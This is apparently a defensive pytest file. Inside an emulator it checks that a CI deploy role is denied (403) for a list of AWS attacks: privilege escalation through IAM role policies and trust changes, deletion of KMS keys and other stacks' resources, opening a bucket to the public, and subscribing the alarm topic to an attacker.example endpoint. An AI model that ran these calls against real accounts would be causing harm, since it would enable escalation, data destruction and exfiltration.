"""Containment: a compromised workflow step under the deploy role cannot escalate or reach other stacks.

The emulator enforces IAM. An administrator applies playbooks/bootstrap.yml with the alarm topic's key (opt-in,
monitoring_topic_cmk=true, which also grants the deploy role its reads, so the attacks meet the policy of a stack
with the key) and makes what an attacker would go for: another stack's resources whose names share the stack's
prefix, an untagged key, another team's function. Each attack, made with the deploy role's credentials as GitHub
Actions obtains them, must be denied (403 AccessDenied). No stack is deployed: the attacks are judged on the
policies alone (the lifecycle under the same roles is test_iam_lifecycle.py).
"""
from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError

from .conftest import Emulator, emulator_fixture, run_playbook
from .workflow_roles import DEPLOY, REPO, another_stacks_function, assume

emulator = emulator_fixture(enforce_iam=True)
FOREIGN = "cloudresume-staging"  # another stack whose names share this stack's prefix
ADMIN_TRUST = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"},
                                                       "Action": "sts:AssumeRole"}]}
ADMIN_POLICY = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
CACHING_OPTIMIZED = "658327ea-f89d-4fab-a63d-7e88639e58f6"


def foreign_resources(emulator: Emulator) -> dict[str, str]:
    """What an attacker would go for, made by an administrator: another stack's resources and an untagged key."""
    admin = emulator.client
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("counter.py", "def handler(event, context):\n    return None\n")
    role = admin("iam").get_role(RoleName="billing-report")["Role"]["Arn"]
    admin("lambda").create_function(FunctionName=f"{FOREIGN}-counter", Runtime="python3.13", Role=role,
                                    Handler="counter.handler", Code={"ZipFile": archive.getvalue()})
    admin("dynamodb").create_table(TableName=f"{FOREIGN}-visitors", BillingMode="PAY_PER_REQUEST",
                                   KeySchema=[{"AttributeName": "counter_id", "KeyType": "HASH"}],
                                   AttributeDefinitions=[{"AttributeName": "counter_id", "AttributeType": "S"}])
    admin("s3").create_bucket(Bucket=f"{FOREIGN}-site", CreateBucketConfiguration={"LocationConstraint": "us-east-2"})
    admin("logs").create_log_group(logGroupName=f"/aws/lambda/{FOREIGN}-counter")
    admin("cloudwatch").put_dashboard(DashboardName=FOREIGN, DashboardBody='{"widgets": []}')
    admin("cloudwatch").put_metric_alarm(AlarmName=f"{FOREIGN}-lambda-errors", MetricName="Errors", Namespace="AWS/Lambda",
                                         Statistic="Sum", Period=300, EvaluationPeriods=1, Threshold=5,
                                         ComparisonOperator="GreaterThanThreshold")
    topic = admin("sns").create_topic(Name="cloudresume-alarms")["TopicArn"]
    key = admin("kms").create_key(Description="another team's key")["KeyMetadata"]["Arn"]
    api = admin("apigatewayv2").create_api(Name=f"{FOREIGN}-api", ProtocolType="HTTP", Tags={"Stack": FOREIGN})["ApiId"]
    cloudfront = admin("cloudfront")
    oac = cloudfront.create_origin_access_control(OriginAccessControlConfig={
        "Name": f"{FOREIGN}-oac", "SigningProtocol": "sigv4", "SigningBehavior": "always",
        "OriginAccessControlOriginType": "s3"})["OriginAccessControl"]["Id"]
    distribution = cloudfront.create_distribution_with_tags(DistributionConfigWithTags={"DistributionConfig": {
        "CallerReference": f"{FOREIGN}-site", "Comment": f"{FOREIGN} site", "Enabled": True,
        "Origins": {"Quantity": 1, "Items": [{"Id": "s3", "DomainName": f"{FOREIGN}-site.s3.us-east-2.amazonaws.com",
                                              "OriginAccessControlId": oac, "S3OriginConfig": {"OriginAccessIdentity": ""}}]},
        "DefaultCacheBehavior": {"TargetOriginId": "s3", "ViewerProtocolPolicy": "redirect-to-https",
                                 "CachePolicyId": CACHING_OPTIMIZED}},
        "Tags": {"Items": [{"Key": "Stack", "Value": FOREIGN}]}})["Distribution"]
    return {"topic": topic, "key": key, "api": api, "distribution": distribution["Id"],
            "distribution_arn": distribution["ARN"], "function_role": "cloudresume-counter-us-east-2"}


def zipped() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("x.py", "def handler(event, context):\n    return 'owned'\n")
    return archive.getvalue()


ATTACKS = {
    "create a role trusting another account": lambda c, r: c("iam").create_role(
        RoleName="cloudresume-x", AssumeRolePolicyDocument=json.dumps(ADMIN_TRUST)),
    "put an admin policy on the function's role": lambda c, r: c("iam").put_role_policy(
        RoleName=r["function_role"], PolicyName="admin", PolicyDocument=json.dumps(ADMIN_POLICY)),
    "attach AdministratorAccess to the function's role": lambda c, r: c("iam").attach_role_policy(
        RoleName=r["function_role"], PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"),
    "trust another account from the function's role": lambda c, r: c("iam").update_assume_role_policy(
        RoleName=r["function_role"], PolicyDocument=json.dumps(ADMIN_TRUST)),
    "pass another role to a new function": lambda c, r: c("lambda").create_function(
        FunctionName="cloudresume-counter", Runtime="python3.13", Handler="x.handler", Code={"ZipFile": zipped()},
        Role="arn:aws:iam::123456789012:role/billing-report"),
    "tag a foreign key as the stack's": lambda c, r: c("kms").tag_resource(
        KeyId=r["key"], Tags=[{"TagKey": "Stack", "TagValue": "cloudresume"}]),
    "schedule a foreign key's deletion": lambda c, r: c("kms").schedule_key_deletion(KeyId=r["key"]),
    "schedule the stack's own key's deletion": lambda c, r: c("kms").schedule_key_deletion(KeyId="alias/cloudresume-alarms"),
    "create a key": lambda c, r: c("kms").create_key(Tags=[{"TagKey": "Stack", "TagValue": "cloudresume"}]),
    "tag a foreign distribution as the stack's": lambda c, r: c("cloudfront").tag_resource(
        Resource=r["distribution_arn"], Tags={"Items": [{"Key": "Stack", "Value": "cloudresume"}]}),
    "read a foreign distribution's configuration": lambda c, r: c("cloudfront").get_distribution_config(
        Id=r["distribution"]),
    "delete a foreign distribution": lambda c, r: c("cloudfront").delete_distribution(Id=r["distribution"], IfMatch="x"),
    "tag a foreign HTTP API as the stack's": lambda c, r: c("apigatewayv2").tag_resource(
        ResourceArn=f"arn:aws:apigateway:us-east-2::/apis/{r['api']}", Tags={"Stack": "cloudresume"}),
    "rename a foreign HTTP API": lambda c, r: c("apigatewayv2").update_api(ApiId=r["api"], Name="x"),
    "delete a foreign HTTP API": lambda c, r: c("apigatewayv2").delete_api(ApiId=r["api"]),
    "replace a foreign function's code": lambda c, r: c("lambda").update_function_code(
        FunctionName=f"{FOREIGN}-counter", ZipFile=zipped()),
    "read a foreign function's environment": lambda c, r: c("lambda").get_function_configuration(
        FunctionName=f"{FOREIGN}-counter"),
    "delete a foreign table": lambda c, r: c("dynamodb").delete_table(TableName=f"{FOREIGN}-visitors"),
    "read a foreign table": lambda c, r: c("dynamodb").scan(TableName=f"{FOREIGN}-visitors"),
    "write a foreign table": lambda c, r: c("dynamodb").put_item(
        TableName=f"{FOREIGN}-visitors", Item={"counter_id": {"S": "visitors"}, "count": {"N": "0"}}),
    "copy the stack's table out by a restore": lambda c, r: c("dynamodb").restore_table_to_point_in_time(
        SourceTableName="cloudresume-visitors", TargetTableName="attacker", UseLatestRestorableTime=True),
    "subscribe an outside endpoint to the alarms": lambda c, r: c("sns").subscribe(
        TopicArn=r["topic"], Protocol="https", Endpoint="https://attacker.example"),
    "open a foreign bucket": lambda c, r: c("s3").put_bucket_policy(Bucket=f"{FOREIGN}-site", Policy=json.dumps({
        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                                                "Resource": f"arn:aws:s3:::{FOREIGN}-site/*"}]})),
    "delete a foreign alarm": lambda c, r: c("cloudwatch").delete_alarms(AlarmNames=[f"{FOREIGN}-lambda-errors"]),
    "delete a foreign dashboard": lambda c, r: c("cloudwatch").delete_dashboards(DashboardNames=[FOREIGN]),
    "delete a foreign log group": lambda c, r: c("logs").delete_log_group(logGroupName=f"/aws/lambda/{FOREIGN}-counter"),
}


@pytest.fixture(scope="module")
def deploy_role(emulator: Emulator) -> dict[str, str]:
    keyed = run_playbook(emulator, "playbooks/bootstrap.yml",
                         extra_vars={"bootstrap_github_repository": REPO, "monitoring_topic_cmk": "true"})
    assert keyed.returncode == 0, keyed.output[-4000:]
    another_stacks_function(emulator)
    return assume(emulator, DEPLOY)


@pytest.fixture(scope="module")
def targets(emulator: Emulator, deploy_role: dict[str, str]) -> dict[str, str]:
    return foreign_resources(emulator)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_deploy_role_cannot(emulator: Emulator, deploy_role: dict, targets: dict, attack: str) -> None:
    credentials = deploy_role

    def client(service: str) -> Any:
        return boto3.client(service, endpoint_url=emulator.url, region_name="us-east-2",
                            aws_access_key_id=credentials["stack_aws_access_key"],
                            aws_secret_access_key=credentials["stack_aws_secret_key"],
                            aws_session_token=credentials["stack_aws_session_token"],
                            config=Config(retries={"max_attempts": 1}))

    with pytest.raises(ClientError) as denied:
        ATTACKS[attack](client, targets)
    error = denied.value.response
    print(f"\n{attack}: {error['Error']['Code']} {error['Error'].get('Message', '')[:160]}")
    assert error["ResponseMetadata"]["HTTPStatusCode"] == 403
    assert error["Error"]["Code"] in ("AccessDenied", "AccessDeniedException")
